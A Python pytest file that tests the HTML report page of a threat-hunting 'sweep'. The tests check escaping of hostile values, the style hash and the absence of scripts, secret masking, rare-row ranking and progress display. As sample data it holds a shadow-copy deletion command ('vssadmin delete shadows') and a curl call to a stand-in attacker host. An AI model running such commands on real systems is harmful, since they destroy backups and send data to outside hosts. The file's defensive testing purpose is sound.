"""What the page of a sweep says, and that no value on it can do harm."""

from __future__ import annotations

import base64
import hashlib
import html
import re
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import settings as examples
from msgspec.structs import replace

from shared.kql.portal import portal_link
from shared.kql.write import fleet_query
from shared.model.outcome import Outcome
from shared.model.record import CommentResult, Plan, Run, Wait
from shared.pages.layout import STYLE_HASH
from shared.settings import Settings
from shared.sweep.parts import Part
from shared.sweep.report import render_sweep
from shared.sweep.summary import Day, Lost, SweepSummary
from tests.support.hostile import NASTY, unseen
from tests.support.said import HUNTS, NOW, Tags
from tests.support.sweep_pages import QUARTERS, new_row, sweep_summary, sweep_work, swept
from tests.support.sweeping import ARCHIVES, DESKTOPS, SERVERS

SECRET = "hunter2secret"


def page(*summaries: SweepSummary, mask: str = "on", parts: list[tuple[Part, int]] | None = None) -> str:
    """Return the page of a sweep that is done, with these summaries."""
    return render_sweep(*swept(*summaries, parts=parts), HUNTS, Settings(mask_secrets=mask))


def nasty(text: str) -> str:
    """Return a page on which every text from outside is *text*."""
    each = sweep_summary(text=text, lost=(Lost("00-0f", 1 / 16, text),))
    run, hunts = swept(each)
    assert run.done
    skipped = Outcome("gone", "gone", "notRun", text)
    comments = (CommentResult("4101", "failed", text),)
    done = replace(
        run.done, verdict=text, outcomes=(*run.done.outcomes, skipped), comments=comments, notes=(text,), reason=text
    )  # fmt: skip
    return render_sweep(replace(run, done=done), hunts, HUNTS, Settings())


@examples(max_examples=60)
@given(NASTY.map("x{}".format))
def test_no_value_becomes_markup_or_a_link(text: str) -> None:
    """Hostile values change no element, attribute or link of the page, and leave no invisible character."""
    content = nasty(text)
    plain, other = Tags(nasty("x")), Tags(content)

    assert plain.tags == other.tags
    assert plain.links == other.links
    assert {"findings", "https", f"#{SERVERS}"} == {link.split("?")[0].split(":")[0] for link in other.links}
    assert "" == unseen(content)


def test_the_only_style_is_the_one_the_policy_allows() -> None:
    """The policy names the hash of the page's style element; there is no other style and no script."""
    content = page(sweep_summary())
    styles = re.findall(r"<style>(.*?)</style>", content, re.DOTALL)
    hashes = [base64.b64encode(hashlib.sha256(style.encode()).digest()).decode() for style in styles]

    assert [STYLE_HASH] == [f"'sha256-{each}'" for each in hashes]
    assert "style=" not in content
    assert "<script" not in content


@pytest.mark.parametrize("mask", ["on", "off"])
def test_secrets_are_masked_unless_masking_is_off(mask: str) -> None:
    """A password is shown only with MASK_SECRETS=off, in each of the eight places where it stands."""
    content = page(sweep_summary(text=f"--password={SECRET}", rows=1), mask=mask)

    # Four are in the new row: device, destination, port and command line. Three are in the list of the rarest
    # destinations: destination, device and process. One is in the list of processes.
    assert {"on": 0, "off": 8}[mask] == content.count(SECRET)


def test_what_goes_to_no_address_has_no_destination() -> None:
    """Its rows are counted, and no empty process or port stands beside them."""
    details = {"AccountName": "user1", "Command": "vssadmin delete shadows"}
    row = replace(
        new_row(process=""), destination="user1 · vssadmin delete shadows", ports=(), details=details
    )
    content = page(replace(sweep_summary(rows=4), ranked=(row,), new_destinations=3))
    tile = content[content.index('class="big"') :]

    assert tile.startswith('class="big">4</p>\n<p>new rows on 7 devices')
    assert '<th scope="col">What</th>' in content
    assert [] == [text for text in ("new destination", "no port", "(no process)") if text in tile]


def test_the_first_ten_rows_are_rare_and_varied() -> None:
    """They are the rarest, at most three of one process; other rows follow, up to 50 in all."""
    browsing = tuple(new_row(f"192.0.2.{n}", "firefox", 700) for n in range(40))
    few = tuple(new_row(f"203.0.113.{n}", f"tool-{n}", n) for n in range(4))
    ranked = (*few, *browsing, *(new_row(f"198.51.100.{n}", f"agent-{n}", 900) for n in range(9)))
    content = page(replace(sweep_summary(), ranked=ranked, new_rows=len(ranked)))
    rows = re.findall(r'<td class="value">([0-9.\[\]]+)<div', content)

    assert [f"203.0.113[.]{n}" for n in range(4)] + [f"192.0.2[.]{n}" for n in range(3)] == rows[:7]
    assert [f"198.51.100[.]{n}" for n in range(3)] == rows[7:10]
    assert 50 == len(rows)
    assert "50 of 53 new rows, rarest first" in content


@pytest.mark.fault("A26", before="the page counted devices within one hunt and called it the fleet")
def test_the_page_says_that_devices_are_counted_in_one_hunts_rows() -> None:
    """A destination may be usual on devices that only another hunt covers, so the page does not speak of the fleet."""
    content = page(sweep_summary())

    assert "Devices and days are counted in this hunt's rows." in content
    assert "3 never seen by this hunt before" in content


@pytest.mark.fault("A26", before="the page said nothing of ties")
def test_rows_as_rare_as_the_last_shown_are_counted() -> None:
    """Of 70 rows that are equally rare the page shows 50; it says how many are left out, those not kept included."""
    ranked = tuple(new_row(f"192.0.2.{n}", f"tool-{n}", 7) for n in range(70))
    content = page(replace(sweep_summary(), ranked=ranked, new_rows=100, ties=30))

    assert (
        "50 of 100 new rows, rarest first, at most 3 of one process above the fold; 50 more are as rare"
        in content
    )


def test_a_page_says_where_rows_name_no_device() -> None:
    """The tile and the rows say that no device is named, instead of counting one."""
    row = replace(new_row("192.0.2.1"), device="", device_id="", devices=0)
    content = page(replace(sweep_summary(), ranked=(row,), new_devices=0, nameless=12))

    assert "in rows that name no device; 3 never seen" in content
    assert "no device named<div" in content


def test_lost_rows_of_odd_ids_are_named_as_such() -> None:
    """The part of the ids that do not begin with hex digits has words of its own, beside those that do."""
    content = page(sweep_summary(lost=(Lost("00-0f", 1 / 16, "no"), Lost("other", 1 / 256, "no"))))

    assert "Devices whose ids begin with 00 to 0f, other characters" in content


def test_a_page_of_a_thousand_rows_per_hunt_stays_small() -> None:
    """Three hunts with a thousand new rows of long values each make a page of less than 300 KB."""
    long = "curl -sS 'https://drop.evil.example/?q=<a&b>' " * 40
    lost = tuple(Lost(f"{n:02x}-{n:02x}", 1 / 256, "its query runs too long") for n in range(100))
    content = page(
        *(sweep_summary(hunt, long, 1_000, lost) for hunt in (ARCHIVES, DESKTOPS, SERVERS)), parts=QUARTERS
    )

    assert 50 * 3 == content.count('class="below"')
    assert "50 of 1,000 new rows" in content
    assert len(content.encode()) < 300_000


def test_parts_not_looked_at_are_listed_by_reason() -> None:
    """Parts lost for the same reason are one line, with their share of the fleet and their id prefixes."""
    lost = (
        Lost("00-0f", 1 / 16, "its query runs too long"),
        Lost("10-1f", 1 / 16, "its query runs too long"),
        Lost("20-20", 1 / 256, "Graph refuses it"),
    )
    content = page(sweep_summary(lost=lost))

    said = re.findall(
        r"<div class=\"second\">(\d+ %) of the fleet.*?<td class=\"why\">(.*?)<div.*?begin with (.*?)<",
        content,
    )

    assert "87 % of the fleet looked at" in content
    assert [
        ("13 %", "its query runs too long", "00 to 0f, 10 to 1f"),
        ("1 %", "Graph refuses it", "20"),
    ] == said


def test_a_hunt_with_nothing_new_still_shows_the_fleet() -> None:
    """It says that nothing is new, and what the fleet does anyway."""
    content = page(replace(sweep_summary(rows=0), ranked=()))

    assert "nothing new</span>" in content
    assert "New: " not in content
    assert f"The fleet: {SERVERS}" in content


def test_each_bar_is_as_high_as_its_days_destinations() -> None:
    """Known and new destinations of a day are bars one on top of the other, with the numbers below them."""
    days = (Day(NOW - timedelta(days=2), 50, 0), Day(NOW - timedelta(days=1), 20, 80))
    content = page(replace(sweep_summary(), days=days))

    assert [("0", "50.0"), ("80.0", "20.0")] == re.findall(
        r'width="1" height="([\d.]+)"/><rect class="\w+" y="[\d.]+" width="1" height="([\d.]+)"', content
    )
    assert re.search(r"new</th><td class=\"quiet\">50</td><td>20</td>", content)


def test_the_page_links_to_rows_parts_and_query() -> None:
    """Each hunt links to its new rows, to all rows of each part, and to its query in Advanced Hunting."""
    hunt = HUNTS.by_name[SERVERS]
    assert hunt.sweep
    query = fleet_query(
        hunt.query, end=sweep_summary().window.end, summarize=hunt.sweep.summarize, applies_to=hunt.applies_to
    )
    link = portal_link(query, Settings().cloud.portal)
    one, four = Tags(page(sweep_summary())), Tags(page(sweep_summary(), parts=QUARTERS))
    new, every = f"findings?hunt={SERVERS}&format=csv", f"findings?hunt={SERVERS}&part={{}}&format=csv"

    assert [f"#{SERVERS}", new, link, every.format("00-ff")] == one.links
    assert [every.format(part.name) for part, _ in QUARTERS] == four.links[3:]


def test_a_removed_hunt_is_shown_without_its_query() -> None:
    """The page of an earlier sweep still shows a hunt that the app no longer has."""
    content = page(sweep_summary("retired-hunt"))

    assert "New: retired-hunt" in content
    assert "Advanced Hunting" not in content


def test_an_unfinished_sweep_shows_progress_and_reloads() -> None:
    """It shows how many parts of each hunt are done and why it waits; a page that is done never reloads."""
    wait = Wait("the tenant's CPU is used up", NOW + timedelta(minutes=15))
    hunts = [{"hunt": SERVERS, "partsDone": 3, "partsPlanned": 4, "rows": 123_456}]
    content = render_sweep(
        Run(sweep_work(), Plan(), wait=wait), {}, HUNTS, Settings(), {"partsDone": 3, "partsPlanned": 4, "hunts": hunts}
    )  # fmt: skip

    assert "<h2>3 of 4 parts done</h2>" in content
    assert "<td>3 of 4</td><td>123,456</td>" in content
    assert html.escape(wait.reason, quote=False).replace("'", "&#39;") in content
    assert '<meta http-equiv="refresh" content="5">' in content
    assert "refresh" not in page(sweep_summary())
